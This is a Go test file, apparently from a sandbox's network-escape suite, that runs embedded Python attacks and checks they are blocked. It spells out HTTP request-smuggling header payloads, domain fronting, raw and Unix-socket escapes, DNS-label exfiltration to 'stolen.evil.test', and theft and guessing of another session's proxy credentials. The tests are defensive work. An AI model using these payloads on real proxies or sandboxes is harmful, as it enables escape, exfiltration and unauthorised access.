package escape

import (
	"context"
	"fmt"
	"os"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// TestEscape_077_Fronting: with requireHostMatch a request names one host, in its target and its Host field.
func TestEscape_077_Fronting(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		g := listenFor(w, unix.AF_INET, unix.SOCK_STREAM)
		w.settings.Domains = []string{"127.0.0.1"}
		w.settings.Network = map[string]any{"requireHostMatch": true}
		w.unreached(g, `get(b"http://127.0.0.1:PORT/", b"front.example"); get(b"http://127.0.0.1:PORT/", b"127.0.0.1:PORT\r\nHost: front.example"); get(b"http://127.0.0.1:PORT/", b"")`)
		w.reachedBy(g, `WAIT = 3; get(b"http://127.0.0.1:PORT/", b"127.0.0.1:PORT")`)
	})
}

// TestEscape_078_Smuggling: a request whose end two parsers could see at two places is not forwarded (NET-31).
func TestEscape_078_Smuggling(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		g := listenFor(w, unix.AF_INET, unix.SOCK_STREAM)
		w.settings.Domains = []string{"127.0.0.1"}
		w.unreached(g, `
u, h = b"http://127.0.0.1:PORT/", b"127.0.0.1:PORT"
hidden = b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
for extra in (b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"Content-Length: 5\r\nContent-Length: 6\r\n", b"Content-Length: 5, 6\r\n", b"Content-Length: +5\r\n",
              b"Content-Length: 0x5\r\n", b"Transfer-Encoding: chunked, identity\r\n", b"Transfer-Encoding: xchunked\r\n", b"Transfer-Encoding : chunked\r\n",
              b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", b"X: a\r\n Transfer-Encoding: chunked\r\n", b"X: a\nTransfer-Encoding: chunked\r\n", b"X: a\rY: b\r\n",
              b"X\x00: a\r\n", b": a\r\n", b"Content-Length: 5\x0b\r\n"):
    get(u, h, extra, hidden, b"POST")
talk(3128, b"GET  " + u + b" HTTP/1.1\r\nHost: " + h + b"\r\nProxy-Authorization: Basic " + auth.encode() + b"\r\n\r\n")
talk(3128, b"GET " + u + b" HTTP/1.1 \nHost: " + h + b"\nProxy-Authorization: Basic " + auth.encode() + b"\n\n")`)
		w.reachedBy(g, `WAIT = 3; get(b"http://127.0.0.1:PORT/", b"127.0.0.1:PORT", b"Content-Length: 5\r\n", b"hello", b"POST")`)
	})
}

// TestEscape_080_OtherProtocols: nothing but the proxies leads anywhere: datagrams, raw and packet sockets, vsock.
func TestEscape_080_OtherProtocols(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		g := listenFor(w, unix.AF_INET, unix.SOCK_DGRAM)
		w.settings.Domains = []string{"127.0.0.1"}
		attack := `
for family, kind, proto in ((2, 2, 0), (2, 2, 136), (2, 3, 255), (2, 3, 1), (2, 2, 1), (10, 2, 0), (17, 3, 3), (17, 2, 8), (16, 3, 4), (16, 3, 12), (40, 1, 0), (44, 3, 0), (2, 5, 132), (2, 1, 132), (31, 3, 1)):
    for host in ("127.0.0.1", ADDRESS):
        try:
            s = socket.socket(family, kind, proto); s.settimeout(1); s.sendto(b"pwned", (host, PORT))
        except Exception: pass
socks(bytes([127, 0, 0, 1]), PORT, kind=1)
talk(1080, b"\x05\x01\x02", b"\x01" + bytes([len(USER)]) + USER.encode() + bytes([len(TOKEN)]) + TOKEN.encode(), b"\x05\x03\x00\x01\x7f\x00\x00\x01" + struct.pack(">H", PORT))`
		w.unreached(g, attack)
		w.finish(w.command(context.Background(), "python3", "-c", g.fill(client+attack)))
		if !g.reached() {
			t.Error("the attack reaches nothing outside a sandbox either")
		}
	})
	each1(t, []one{
		{"raw", eperm, []call{{unix.SYS_SOCKET, unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP}}},
		{"packet", eperm, []call{{unix.SYS_SOCKET, unix.AF_PACKET, unix.SOCK_RAW, 0}}},
		{"vsock", eperm, []call{{unix.SYS_SOCKET, unix.AF_VSOCK, unix.SOCK_STREAM, 0}}},
		{"bluetooth", []unix.Errno{unix.EAFNOSUPPORT}, []call{{unix.SYS_SOCKET, unix.AF_BLUETOOTH, unix.SOCK_RAW, 1}}},
		{"xdp", []unix.Errno{unix.EAFNOSUPPORT}, []call{{unix.SYS_SOCKET, unix.AF_XDP, unix.SOCK_RAW, 0}}},
	})
}

// TestEscape_081_Resolver: a name that is refused is not looked up, so that its labels carry nothing out.
func TestEscape_081_Resolver(t *testing.T) {
	if os.Getuid() != 0 {
		t.Log("only root can be a resolver on port 53")
		return
	}
	each(t, func(t *testing.T, w *world) {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
		w.must(err)
		defer unix.Close(fd)
		w.must(unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 99, 0, 53}, Port: 53}))
		g := &target{fd: fd, kind: unix.SOCK_DGRAM, port: 53}
		w.write("resolv.conf", "nameserver 127.99.0.53\noptions timeout:1 attempts:1\n")
		w.umbrella = `mount --bind $WORLD/resolv.conf /etc/resolv.conf`
		w.settings.Domains = []string{"good.test"}
		w.unreached(g, `
connect("stolen.evil.test:80"); socks(b"stolen.evil.test", 80); get(b"http://stolen.evil.test/", b"stolen.evil.test")
for host in ("stolen.evil.test", "good.test"):
    try: socket.getaddrinfo(host, 80)
    except OSError: pass
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: s.sendto(b"stolen", ("127.99.0.53", 53))
except OSError: pass`)
		w.reachedBy(g, `connect("good.test:80")`)
	})
}

// TestEscape_082_MultipathAndSCTP: other transports end in the same network namespace.
func TestEscape_082_MultipathAndSCTP(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		g := listenFor(w, unix.AF_INET, unix.SOCK_STREAM)
		w.settings.Domains = []string{"127.0.0.1"}
		w.unreached(g, `
for proto in (262, 132, 33, 136):
    for host in ("127.0.0.1", ADDRESS):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto); s.settimeout(2); s.connect((host, PORT))
        except OSError: pass`)
	})
}

// TestEscape_083_AbstractSockets: those of the host are out of reach, with allowAllUnixSockets too: their names belong to
// the network namespace.
func TestEscape_083_AbstractSockets(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
		w.must(err)
		defer unix.Close(fd)
		name := fmt.Sprintf("srt-escape-%d-%d", os.Getpid(), w.who.uid)
		w.must(unix.Bind(fd, &unix.SockaddrUnix{Name: "@" + name}))
		w.must(unix.Listen(fd, 4))
		g := &target{fd: fd, kind: unix.SOCK_STREAM, path: name}
		attack := `
try: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\0" + PATH)
except OSError: pass`
		w.unreached(g, attack)
		w.settings.Network = map[string]any{"allowAllUnixSockets": true}
		w.unreached(g, attack)
		w.finish(w.command(context.Background(), "python3", "-c", g.fill(client+attack)))
		if !g.reached() {
			t.Error("the attack reaches nothing outside a sandbox either")
		}
	})
}

// TestEscape_084_PathnameSockets: no daemon of the host is reached through its socket file.
func TestEscape_084_PathnameSockets(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		for _, kind := range []int{unix.SOCK_STREAM, unix.SOCK_DGRAM, unix.SOCK_SEQPACKET} {
			g := listenFor(w, unix.AF_UNIX, kind)
			if kind == unix.SOCK_SEQPACKET {
				w.must(unix.Listen(g.fd, 4))
				g.kind = unix.SOCK_STREAM
			}
			attack := fmt.Sprintf(`
def all():
    yield lambda: socket.socket(socket.AF_UNIX, %[1]d)
    yield lambda: socket.socketpair(socket.AF_UNIX, %[1]d)[0]
    yield lambda: socket.socket(socket.AF_UNIX, 3)
for make in all():
    try:
        s = make(); s.connect(PATH); s.send(b"pwned")
    except OSError: pass
    try: s.sendto(b"pwned", PATH)
    except (OSError, NameError): pass`, kind)
			w.unreached(g, attack)
			w.finish(w.command(context.Background(), "python3", "-c", g.fill(client+attack)))
			if !g.reached() {
				t.Error("the attack reaches nothing outside a sandbox either")
			}
		}
	})
}

// TestEscape_086_SomebodyElsesProxy: the proxies serve who knows the password of this session, and are not there for
// anybody outside.
func TestEscape_086_SomebodyElsesProxy(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		g := listenFor(w, unix.AF_INET, unix.SOCK_STREAM)
		w.settings.Domains = []string{"127.0.0.1"}
		r := w.hold(`echo "$HTTP_PROXY" > proxy`)
		other := strings.TrimSpace(w.read("work/proxy"))
		if !strings.HasPrefix(other, "http://srt") {
			t.Fatalf("no proxy: %q", other)
		}
		steal := `
other = urllib.parse.urlsplit("` + other + `")
def stolen(): socks(b"127.0.0.1", PORT, other.username, other.password)
assert other.password != TOKEN
`
		w.unreached(g, steal+`
stolen(); auth = base64.b64encode((other.username + ":" + other.password).encode()).decode(); connect("127.0.0.1:PORT")
for guess in ("", "x", "srt:", ":" + TOKEN, USER + ":" + TOKEN + "x", USER + ":" + TOKEN[:-1]):
    auth = base64.b64encode(guess.encode()).decode(); connect("127.0.0.1:PORT")
connect("127.0.0.1:PORT", b"Proxy-Authorization: Basic x\r\n")
auth = ""; connect("127.0.0.1:PORT"); socks(b"127.0.0.1", PORT, password="x"); talk(1080, b"\x05\x01\x00", b"\x05\x01\x00\x01\x7f\x00\x00\x01" + struct.pack(">H", PORT))
talk(1080, b"\x04\x01" + struct.pack(">H", PORT) + b"\x7f\x00\x00\x01x\x00")`)
		// From the host the ports lead nowhere.
		w.finish(w.command(context.Background(), "python3", "-c", g.fill(strings.Replace(client, `os.environ.get("HTTP_PROXY", `, `("`+other+`" or `, 1)+`connect("127.0.0.1:PORT"); socks(b"127.0.0.1", PORT)`)))
		if g.reached() {
			t.Error("ESCAPE: the proxy of a sandbox serves the host")
		}
		w.must(r.cmd.Process.Kill())
		r.wait()
		w.reachedBy(g, `connect("127.0.0.1:PORT")`)
	})
}

// TestEscape_088_Exhaustion: connections that say nothing, or half of something, do not keep the next one out.
func TestEscape_088_Exhaustion(t *testing.T) {
	each(t, func(t *testing.T, w *world) {
		g := listenFor(w, unix.AF_INET, unix.SOCK_STREAM)
		w.settings.Domains = []string{"127.0.0.1"}
		o := w.reachedBy(g, `
held = []
for i in range(400):
    s = socket.create_connection(("127.0.0.1", SERVERS[3128 if i % 2 else 1080]), 10)
    s.sendall((b"", b"\x05", b"CONNECT 127", b"GET http://127.0.0.1/ HTTP/1.1\r\nX: " + b"a" * 8000)[i % 4])
    held.append(s)
print(talk(3128, b"GET http://127.0.0.1/ HTTP/1.1\r\nX: " + b"a" * 2000000 + b"\r\n\r\n")[:20])
print(connect("127.0.0.1:PORT"))`)
		if !strings.Contains(o.out, "200 Connection") {
			t.Errorf("%s%s", o.out, o.err)
		}
	})
}
